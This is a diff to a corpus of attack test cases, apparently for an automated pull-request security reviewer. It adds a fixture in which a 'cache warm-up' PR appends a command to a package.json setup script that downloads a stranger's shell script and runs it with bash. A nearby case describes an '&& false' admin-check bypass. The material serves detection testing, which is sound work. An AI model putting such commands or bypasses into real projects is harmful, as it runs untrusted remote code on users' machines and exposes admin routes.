@@ -3472,6 +3472,26 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'] },
   },
   {
+    id: 'attack-package-script-second-installer-after-known-one',
+    description:
+      'A second download-and-run in a package script: the project\'s "setup" script already saves uv\'s installer to a file and runs it, and a newcomer\'s "cache warm-up" PR appends to the same script a stranger\'s setup.sh saved to /tmp and run with bash. A reader that takes only the first two-step download of a script (the base\'s, known) would pass it.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 74403,
+        title: 'chore: warm the npm cache in setup',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'package.json',
+            base: packageJson({ name: 'tint', version: '2.4.0', scripts: { build: 'tsc -p .', setup: 'curl -LsSf -o /tmp/uv.sh https://astral.sh/uv/install.sh && sh /tmp/uv.sh && uv sync' } }),
+            head: packageJson({ name: 'tint', version: '2.4.0', scripts: { build: 'tsc -p .', setup: 'curl -LsSf -o /tmp/uv.sh https://astral.sh/uv/install.sh && sh /tmp/uv.sh && uv sync && curl -fsSL -o /tmp/warm.sh https://npm-warm-cache.dev/setup.sh && bash /tmp/warm.sh' } }),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'] },
+  },
+  {
     id: 'attack-admin-gate-and-false',
     description:
       'A "Simplify admin routes" PR appends `&& false` to the condition that refuses non-admins (`if (!req.user.isAdmin && false) return res.sendStatus(403);`): the refusal never runs, every signed-in user reaches the admin routes.',
